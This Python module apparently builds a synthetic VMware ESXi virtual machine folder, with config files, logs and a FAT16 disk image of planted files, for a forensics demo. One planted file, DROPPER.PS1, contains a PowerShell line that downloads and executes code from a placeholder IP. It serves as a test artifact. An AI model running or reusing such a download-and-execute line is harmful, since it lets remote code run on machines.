"""Builds the demo VM folder: what an ESXi datastore holds for a small, powered-off VM."""

from __future__ import annotations

import hashlib
import uuid
from pathlib import Path

from vmforensics.demo.fat import build_fat16, with_mbr
from vmforensics.demo.vmdk_writer import write_monolithic_sparse

VM_NAME = "web01"
MAC = "00:50:56:a1:b2:c3"
#: Files inside the guest's FAT16 file system, and what the demo reads back from the acquired disk.
GUEST_FILES = {
    "README.TXT": b"web01 demo guest: files planted for the vmforensics demo\r\n",
    "LOGS/ACCESS.LOG": b"".join(
        f'10.0.0.{i % 250} - - [23/Nov/2026:10:{i % 60:02d}:00 +0000] "GET /admin HTTP/1.1" 200 512\r\n'.encode()
        for i in range(400)
    ),
    "LOGS/DROPPER.PS1": b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\r\n",
    "DATA/KEYS.BIN": hashlib.sha256(b"demo").digest() * 2048,
}


def build_demo_vm(datastore: Path) -> Path:
    """Write ``<datastore>/web01/`` (vmx, vmxf, vmsd, nvram, sparse VMDK with FAT16, logs); returns the .vmx."""
    folder = datastore / VM_NAME
    folder.mkdir(parents=True)
    volume = build_fat16(16 << 20, GUEST_FILES, label="WEB01")
    disk = with_mbr(volume, 32 << 20)
    write_monolithic_sparse(folder / f"{VM_NAME}.vmdk", disk)
    bios_uuid = uuid.UUID("564d1e2f-3a4b-5c6d-7e8f-90a1b2c3d4e5")
    vmx = {
        ".encoding": "UTF-8",
        "config.version": "8",
        "virtualHW.version": "14",
        "displayName": VM_NAME,
        "guestOS": "windows2019srv-64",
        "memSize": "2048",
        "nvram": f"{VM_NAME}.nvram",
        "extendedConfigFile": f"{VM_NAME}.vmxf",
        "scsi0.present": "TRUE",
        "scsi0.virtualDev": "lsisas1068",
        "scsi0:0.present": "TRUE",
        "scsi0:0.fileName": f"{VM_NAME}.vmdk",
        "ethernet0.present": "TRUE",
        "ethernet0.virtualDev": "vmxnet3",
        "ethernet0.addressType": "vpx",
        "ethernet0.generatedAddress": MAC,
        "uuid.bios": " ".join(f"{b:02x}" for b in bios_uuid.bytes[:8])
        + "-"
        + " ".join(f"{b:02x}" for b in bios_uuid.bytes[8:]),
        "vc.uuid": "52 3c 9d 1e 7a 4b 2f 10-8e 6d 5c 4b 3a 29 18 07",
    }
    (folder / f"{VM_NAME}.vmx").write_text("".join(f'{k} = "{v}"\n' for k, v in vmx.items()))
    (folder / f"{VM_NAME}.vmxf").write_text(
        '<?xml version="1.0"?>\n<Foundry><VM><VMId type="string">52 3c 9d 1e</VMId></VM></Foundry>\n'
    )
    (folder / f"{VM_NAME}.vmsd").write_text('.encoding = "UTF-8"\nsnapshot.lastUID = "0"\n')
    (folder / f"{VM_NAME}.nvram").write_bytes(b"MRVN" + bytes(8188))
    (folder / "vmware.log").write_text(
        "2026-11-23T09:58:01.123Z In(05) vmx - Log for VMware ESX pid=1234 version=8.0.2 build=build-22380479\n"
        f'2026-11-23T09:58:01.456Z In(05) vmx - DICT displayName = "{VM_NAME}"\n'
        f"2026-11-23T09:58:02.001Z In(05) vmx - Ethernet0 MAC Address: {MAC}\n"
        "2026-11-23T10:41:17.900Z In(05) vmx - Guest: toolbox: Shutdown requested\n"
    )
    return folder / f"{VM_NAME}.vmx"
